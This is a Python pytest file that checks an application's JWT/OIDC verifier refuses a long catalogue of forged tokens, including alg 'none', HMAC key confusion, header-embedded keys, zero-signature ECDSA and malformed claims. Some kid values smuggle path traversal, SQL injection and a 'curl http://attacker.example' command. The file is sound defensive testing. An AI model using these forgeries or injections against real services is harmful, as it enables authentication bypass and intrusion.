"""The catalogue of attacks on signed tokens: each is refused, as not authenticated and as nothing else."""

import hashlib
import hmac
import time
from collections.abc import Callable
from typing import Any

import orjson
import pytest
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.errors import SecurityWarning
from joserfc.jwk import RSAKey

from planvault.auth.oidc_token import LONGEST
from planvault.errors import NotAuthenticated
from tests.integration.auth.conftest import Door, OpenDoor
from tests.integration.auth.issuer import AUDIENCE, JWKS, Issuer, Signer, b64, serving, signer

Forge = Callable[[Issuer], str]
STRANGER = Signer("first", "RS256", signer("stranger").key)  # the name of a key of the issuer's, another key


def handmade(header: dict[str, Any] | bytes, claims: dict[str, Any] | bytes, signature: bytes = b"x") -> str:
    head = header if isinstance(header, bytes) else orjson.dumps(header)
    body = claims if isinstance(claims, bytes) else orjson.dumps(claims)
    return f"{b64(head)}.{b64(body)}.{b64(signature)}"


def hmac_with(secret: bytes) -> Forge:
    def forge(issuer: Issuer) -> str:
        signed = f"{b64(orjson.dumps({'alg': 'HS256', 'kid': 'first'}))}.{b64(orjson.dumps(issuer.claims()))}"
        return f"{signed}.{b64(hmac.new(secret, signed.encode(), hashlib.sha256).digest())}"

    return forge


def with_header(**header: Any) -> Forge:
    """Signed by the stranger, whose key the header tries to bring in."""
    return lambda issuer: STRANGER.sign(issuer.claims(), **header)


def own(**header: Any) -> Forge:
    """Signed by the issuer itself."""
    return lambda issuer: signer().sign(issuer.claims(), **header)


def claiming(**claims: Any) -> Forge:
    return lambda issuer: issuer.token(**claims)


def raw(claims: bytes) -> Forge:
    return lambda _: signer().sign(claims)


def altered(change: Callable[[list[str]], list[str]]) -> Forge:
    return lambda issuer: ".".join(change(issuer.token().split(".")))


def with_times(text: str) -> Forge:
    """`exp` as no serialiser writes it."""
    return lambda issuer: signer().sign(orjson.dumps(issuer.claims(exp=None))[:-1] + b',"exp":' + text.encode() + b"}")


PUBLIC = signer().key.public_key
PEM = PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
STRANGER_JWK = STRANGER.jwk()

CATALOGUE: dict[str, Forge] = {
    **{
        f"alg {name!r}, no signature": lambda issuer, name=name: handmade(
            {"alg": name, "kid": "first"}, issuer.claims(), b""
        )
        for name in ("none", "None", "NONE", "nOnE", "", None, 7, ["RS256"], "RS256 ", "rs256", "HS256", "dir")
    },
    "alg none, some signature": lambda issuer: handmade({"alg": "none", "kid": "first"}, issuer.claims()),
    "no alg": lambda issuer: handmade({"kid": "first"}, issuer.claims()),
    "HMAC with the public key as PEM": hmac_with(PEM),
    "HMAC with the public key as PEM, no last newline": hmac_with(PEM.strip()),
    "HMAC with the public key as PKCS 1": hmac_with(PUBLIC.public_bytes(Encoding.PEM, PublicFormat.PKCS1)),
    "HMAC with the public key as DER": hmac_with(PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)),
    "HMAC with the public key as JWK": hmac_with(orjson.dumps(signer().jwk())),
    "HMAC with nothing": hmac_with(b""),
    "another key under a known name": with_header(),
    "another algorithm than the key is for": own(alg="PS256"),
    "a longer hash than the key is for": own(alg="RS512"),
    "the key in the header": with_header(jwk=STRANGER_JWK),
    "the key in the header, unnamed": with_header(jwk=STRANGER_JWK, kid=None),
    "a certificate in the header": with_header(x5c=["MIIB"]),
    "an extension that must be understood": own(crit=["exp"], exp=1),
    "a payload that is not encoded": own(crit=["b64"], b64=True),
    "b64 without crit": own(b64=False),
    "crit that is empty": own(crit=[]),
    "crit that is no list": own(crit="exp"),
    "a logout token's type": own(typ="logout+jwt"),
    "a proof's type": own(typ="dpop+jwt"),
    "an event's type": own(typ="secevent+jwt"),
    "a type that is no text": own(typ=1),
    **{
        f"kid {str(kid)[:24]!r}": with_header(kid=kid)
        for kid in (
            "../../../../../../dev/null",
            "/proc/sys/kernel/randomize_va_space",
            "first' UNION SELECT 'key",
            "first; curl http://attacker.example",
            "http://attacker.example/key.json",
            "first\x00",
            "k" * 5_000,
            "",
        )
    },
    **{
        f"kid {kid!r}": own(kid=kid)
        for kid in (7, ["first"], {"first": 1}, True)
    },
    "header is no object": lambda issuer: handmade(b'["RS256"]', issuer.claims()),
    "header is no JSON": lambda issuer: handmade(b"RS256", issuer.claims()),
    "header is nested without end": lambda issuer: handmade(
        b'{"alg":"RS256","kid":"first","x":' + b"[" * 900 + b"]" * 900 + b"}", issuer.claims()
    ),
    "header is nested beyond every parser": lambda issuer: handmade(b'{"x":' + b"[" * 5_000, issuer.claims()),
    "header names alg twice": lambda issuer: handmade(
        b'{"alg":"none","alg":"RS256","kid":"first"}', issuer.claims(), b""
    ),
    "header is no UTF-8": lambda issuer: handmade(b'{"alg":"RS256\xff"}', issuer.claims()),
    "payload was changed": altered(lambda parts: [parts[0], b64(b'{"sub":"other"}'), parts[2]]),
    "header was changed": altered(lambda parts: [b64(b'{"alg":"RS256","kid":"first" }'), *parts[1:]]),
    "signature was cut": altered(lambda parts: [*parts[:2], parts[2][:-8]]),
    "signature is too long": altered(lambda parts: [*parts[:2], parts[2] + "AAAA"]),
    "signature is missing": altered(lambda parts: [*parts[:2], ""]),
    "payload is missing": altered(lambda parts: [parts[0], "", parts[2]]),
    "two parts": altered(lambda parts: parts[:2]),
    "four parts": altered(lambda parts: [*parts, parts[2]]),
    "encrypted": altered(lambda parts: [*parts, *parts[:2]]),
    "JSON serialisation": lambda issuer: orjson.dumps({"payload": "e30", "signatures": []}).decode(),
    "padding": altered(lambda parts: [parts[0] + "=", *parts[1:]]),
    "base64 of the other alphabet": altered(lambda parts: [parts[0], parts[1], "+/" + parts[2][2:]]),
    "a line break inside": altered(lambda parts: [parts[0] + "\n", *parts[1:]]),
    "longer than any": claiming(groups=["g" * 50] * 400),
    "claims are a list": raw(b"[]"),
    "claims are no JSON": raw(b"sub=1"),
    "claims are nested without end": raw(b'{"x":' * 3_000),
    "no exp": claiming(exp=None),
    "expired": claiming(exp=time.time() - 3_600),
    **{
        f"exp {text[:12]}": with_times(text)
        for text in ("1e400", "-1", '"4102444800"', "true", "null", "[4102444800]", "1e300", "NaN", "9" * 400)
    },
    "not valid before tomorrow": claiming(nbf=time.time() + 86_400),
    "nbf is text": claiming(nbf="now"),
    "made tomorrow": claiming(iat=time.time() + 86_400),
    "no issuer": claiming(iss=None),
    "another issuer": claiming(iss="https://attacker.example"),
    "an issuer in a list": lambda issuer: issuer.token(iss=[issuer.url]),
    "the issuer with a slash": lambda issuer: issuer.token(iss=issuer.url + "/"),
    "no audience": claiming(aud=None),
    **{
        f"audience {aud!r}": claiming(aud=aud)
        for aud in ("account", "", [], ["account"], [[AUDIENCE]], {AUDIENCE: 1}, 7, AUDIENCE.upper(), f"{AUDIENCE}-dev")
    },
    "no subject": claiming(sub=None),
    **{f"subject {str(sub)[:8]!r}": claiming(sub=sub) for sub in ("", 7, ["a"], "a\nb", "a\x00", "s" * 2_000)},
    "Keycloak's ID token": claiming(typ="ID"),
    "Keycloak's refresh token": claiming(typ="Refresh"),
    "an ID token": claiming(at_hash="MTIz"),
    "an ID token of the hybrid flow": claiming(c_hash="MTIz"),
    "a logout token": claiming(events={"http://schemas.openid.net/event/backchannel-logout": {}}),
    "a token that its holder must prove to hold": claiming(cnf={"jkt": "0ZcOCORZNYy"}),
}  # fmt: skip


@pytest.mark.parametrize("attack", CATALOGUE)
async def test_forged_and_misused_tokens_are_refused(door: Door, issuer: Issuer, attack: str) -> None:
    text = CATALOGUE[attack](issuer)
    with pytest.raises(NotAuthenticated) as refused:
        await door.identify(text)
    for part in text.split("."):
        assert len(part) < 8 or part not in refused.value.detail
    assert (await door.identify(issuer.token())).name == "Mia", "the issuer's own tokens go on"


@pytest.mark.parametrize("member", ["jku", "x5u"])
async def test_addresses_in_a_header_are_never_asked(door: Door, issuer: Issuer, member: str) -> None:
    async with serving() as attacker:
        attacker.keys = [STRANGER_JWK]
        for kid in ("first", "of the attacker", None):
            address = attacker.url.removesuffix("/realms/acme") + JWKS
            with pytest.raises(NotAuthenticated):
                await door.identify(STRANGER.sign(issuer.claims(), kid=kid, **{member: address}))
        assert attacker.asked == []


@pytest.mark.parametrize(
    "changes",
    [{"use": "enc"}, {"alg": "RSA-OAEP"}, {"alg": "HS256"}, {"alg": 7}, {"key_ops": ["encrypt"]}, {"key_ops": "verify"},
     {"kty": "oct", "k": "c2VjcmV0"}, {"d": "AQAB"}, {"kid": 7}, {"e": "AA"}, {"n": "AQAB"}, {"n": "A" * 100_000}],
)  # fmt: skip
async def test_a_published_key_that_is_not_for_signatures_opens_nothing(
    door: Door, issuer: Issuer, changes: dict[str, Any]
) -> None:
    issuer.keys = [signer().jwk(**changes), signer("other", "ES256").jwk()]
    with pytest.raises(NotAuthenticated):
        await door.identify(issuer.token())
    await door.identify(signer("other", "ES256").sign(issuer.claims()))


async def test_a_weak_rsa_key_opens_nothing(door: Door, issuer: Issuer) -> None:
    with pytest.warns(SecurityWarning):
        weak = Signer("weak", "RS256", RSAKey.import_key(generate_private_key(65_537, 1_024)))
    issuer.keys = [weak.jwk(), signer().jwk()]
    with pytest.raises(NotAuthenticated):
        await door.identify(weak.sign(issuer.claims()))


@pytest.mark.parametrize("signature", [b"\x00" * 64, b"\x00" * 63 + b"\x01", b"\xff" * 64, b"\x00" * 70])
async def test_signatures_of_zeros_are_none(door: Door, issuer: Issuer, signature: bytes) -> None:
    """CVE-2022-21449."""
    issuer.keys = [signer("curve", "ES256").jwk()]
    with pytest.raises(NotAuthenticated):
        await door.identify(handmade({"alg": "ES256", "kid": "curve"}, issuer.claims(), signature))


async def test_only_named_applications_may_call_where_the_operator_names_some(opened: OpenDoor, issuer: Issuer) -> None:
    door = await opened(clients=frozenset({"console"}))
    for member in ("azp", "client_id", "appid"):
        await door.identify(issuer.token(**{member: "console"}))
    for wrong in ({}, {"azp": "other"}, {"azp": ["console"]}, {"azp": "other", "client_id": "console"}):
        with pytest.raises(NotAuthenticated, match="application"):
            await door.identify(issuer.token(**wrong))


async def test_the_longest_token_is_accepted_and_one_that_is_longer_is_not_read(door: Door, issuer: Issuer) -> None:
    await door.identify(issuer.token(groups=["g" * 50] * 180))
    with pytest.raises(NotAuthenticated, match="longer"):
        await door.identify("a" * (LONGEST + 1))
